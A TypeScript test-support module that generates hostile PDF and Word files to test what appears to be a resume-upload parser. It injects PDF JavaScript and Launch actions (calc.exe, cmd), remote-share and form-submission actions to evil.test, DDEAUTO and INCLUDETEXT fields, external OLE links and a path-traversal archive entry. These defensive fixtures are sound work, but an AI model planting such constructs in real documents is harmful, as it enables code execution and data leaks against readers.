import { spawnSync } from "node:child_process";
import { readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { readArchive, unpack } from "../../src/resume/zip.ts";
import { badFiles } from "../support/badFiles.ts";
import { type Packed, zip } from "../support/files.ts";
import { hostilePdfs } from "../support/pdfs.ts";
import { refusedDocuments } from "../support/refusedDocuments.ts";
import { refusedPdfs } from "../support/refusedPdfs.ts";

export interface HostileFile {
  name: string;
  content: Buffer;
}

const script = { "/S": "/JavaScript", "/JS": "u:app.alert(1)" };
const link = (action: object) => ({
  "/Annots": [{ "/Type": "/Annot", "/Subtype": "/Link", "/Rect": [0, 0, 9, 9], "/A": action }],
});

/** Entries in qpdf's JSON. */
const injections: Record<string, { catalog?: object; page?: object }> = {
  "script on opening": { catalog: { "/OpenAction": script } },
  "script by name": {
    catalog: { "/Names": { "/JavaScript": { "/Names": ["u:a", script] } } },
  },
  "script on closing": { catalog: { "/AA": { "/WC": script } } },
  "script with the page": { page: { "/AA": { "/O": script } } },
  "script behind a link": { page: link(script) },
  "script behind a place": {
    page: link({ "/S": "/GoTo", "/D": "u:a", "/Next": [{ "/S": "/Named", "/Next": script }] }),
  },
  "program behind a link": { page: link({ "/S": "/Launch", "/F": "u:calc.exe" }) },
  "program for Windows": {
    page: link({ "/S": "/Launch", "/Win": { "/F": "u:cmd", "/P": "u:/c" } }),
  },
  "program on opening": { catalog: { "/OpenAction": { "/S": "/Launch", "/F": "u:a.pdf" } } },
  "address on opening": { catalog: { "/OpenAction": { "/S": "/URI", "/URI": "u:http://a.test" } } },
  "share on opening": {
    catalog: {
      "/OpenAction": { "/S": "/GoToR", "/F": "u:\\\\evil.test\\a.pdf", "/D": [0, "/Fit"] },
    },
  },
  "share behind a link": {
    page: link({ "/S": "/GoToR", "/F": "u://evil.test/a.pdf", "/D": [0, "/Fit"] }),
  },
  "form that is sent": { page: link({ "/S": "/SubmitForm", "/F": "u:https://evil.test/" }) },
  "data import": { page: link({ "/S": "/ImportData", "/F": "u:a.fdf" }) },
  film: { page: { "/Annots": [{ "/Subtype": "/Movie", "/Rect": [0, 0, 9, 9] }] } },
  "rich media": { page: { "/Annots": [{ "/Subtype": "/RichMedia", "/Rect": [0, 0, 9, 9] }] } },
  "form of XFA": { catalog: { "/AcroForm": { "/Fields": [], "/XFA": "u:x" } } },
  "attached program": {
    catalog: {
      "/Names": {
        "/EmbeddedFiles": { "/Names": ["u:a", { "/F": "u:a.js", "/EF": { "/F": "90000 0 R" } }] },
      },
    },
  },
};

function inject(folder: string, base: string, name: string): Buffer | undefined {
  const { catalog = {}, page = {} } = injections[name] ?? {};
  const json = spawnSync("qpdf", ["--json=2", "--json-key=qpdf", join(folder, base)], {
    maxBuffer: 1 << 28,
  });
  const { qpdf } = JSON.parse(json.stdout.toString()) as {
    qpdf: [object, Record<string, { value?: Record<string, unknown> }>];
  };
  const [header, objects] = qpdf;
  const find = (type: string) =>
    Object.entries(objects).find(([, { value }]) => value?.["/Type"] === type) ?? ["", {}];
  const changes = [
    [find("/Catalog"), catalog],
    [find("/Page"), page],
  ] as const;
  const update = {
    ...Object.fromEntries(
      changes.map(([[key, { value }], more]) => [key, { value: { ...value, ...more } }]),
    ),
    "obj:90000 0 R": { stream: { dict: { "/Type": "/EmbeddedFile" }, data: "YQ==" } },
  };
  writeFileSync(join(folder, "update.json"), JSON.stringify({ qpdf: [header, update] }));
  const to = join(folder, "hostile.pdf");
  const { status } = spawnSync("qpdf", [
    `--update-from-json=${join(folder, "update.json")}`,
    join(folder, base),
    to,
  ]);
  return status === 0 || status === 3 ? readFileSync(to) : undefined;
}

const relationship = (type: string, target: string) =>
  `<Relationship Id="evil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;

const insert = (xml: string) => (text: string) => text.replace("</w:body>", `${xml}</w:body>`);
const field = (instruction: string) =>
  insert(`<w:p><w:fldSimple w:instr="${instruction}"><w:r/></w:fldSimple></w:p>`);
const relate = (type: string, target: string) => (text: string) =>
  text.replace("</Relationships>", relationship(type, target));

const documentChanges: Record<
  string,
  { parts?: Record<string, (text: string) => string>; more?: Packed[] }
> = {
  "field that runs a program": {
    parts: { "word/document.xml": field("DDEAUTO cmd.exe &quot;/k calc&quot;") },
  },
  "field that fetches a picture": {
    parts: { "word/document.xml": field("INCLUDEPICTURE &quot;https://evil.test/a.png&quot;") },
  },
  "field that reads a file": {
    parts: { "word/document.xml": field("INCLUDETEXT &quot;C:\\\\secret.txt&quot;") },
  },
  "picture from the web": {
    parts: { "word/_rels/document.xml.rels": relate("image", "https://evil.test/a.png") },
  },
  "picture behind a hyperlink": {
    parts: {
      "word/_rels/document.xml.rels": relate("hyperlink", "https://evil.test/a.png"),
      "word/document.xml": insert(
        '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="evil"/></w:drawing></w:r></w:p>',
      ),
    },
  },
  "picture from a share": {
    parts: { "word/_rels/document.xml.rels": relate("image", "file://evil.test/share/a.png") },
  },
  "page in another format": {
    parts: { "word/_rels/document.xml.rels": relate("aFChunk", "a.html") },
  },
  "linked object": {
    parts: { "word/_rels/document.xml.rels": relate("oleObject", "https://evil.test/a.rtf") },
  },
  macros: { more: [{ name: "word/vbaProject.bin", content: "x" }] },
  ActiveX: { more: [{ name: "word/activeX/activeX1.xml", content: "<x/>" }] },
  program: { more: [{ name: "word/media/run.exe", content: "MZ" }] },
  "unknown object": { more: [{ name: "word/embeddings/oleObject9.bin", content: "x" }] },
  "path upwards": { more: [{ name: "../evil.txt", content: "x" }] },
};

async function change(base: Buffer, name: string): Promise<Buffer> {
  const { parts = {}, more = [] } = documentChanges[name] ?? {};
  const { bytes, entries } = readArchive(base);
  const packed: Packed[] = [];
  for (const entry of entries) {
    const content = await unpack(bytes, entry);
    const edit = parts[entry.name];
    packed.push({ name: entry.name, content: edit ? edit(content.toString()) : content });
  }
  return zip([...packed, ...more]);
}

/** Creates hostile files from real ones, and those of the tests. */
export async function createHostileFiles(folder: string): Promise<HostileFile[]> {
  const files: HostileFile[] = [];
  for (const base of ["libreoffice-english-tagged.pdf", "chromium-english.pdf"])
    for (const name of Object.keys(injections)) {
      const content = inject(folder, base, name);
      if (content) files.push({ name: `${name}, ${base}`, content });
    }
  const word = readFileSync(join(folder, "libreoffice-english-word.docx"));
  for (const name of Object.keys(documentChanges))
    files.push({ name: `${name}, LibreOffice`, content: await change(word, name) });
  for (const [name, file] of Object.entries({ ...badFiles, ...hostilePdfs }))
    files.push({ name, content: file() });
  for (const [name, { file }] of Object.entries({ ...refusedPdfs, ...refusedDocuments }))
    files.push({ name, content: file() });
  return files;
}
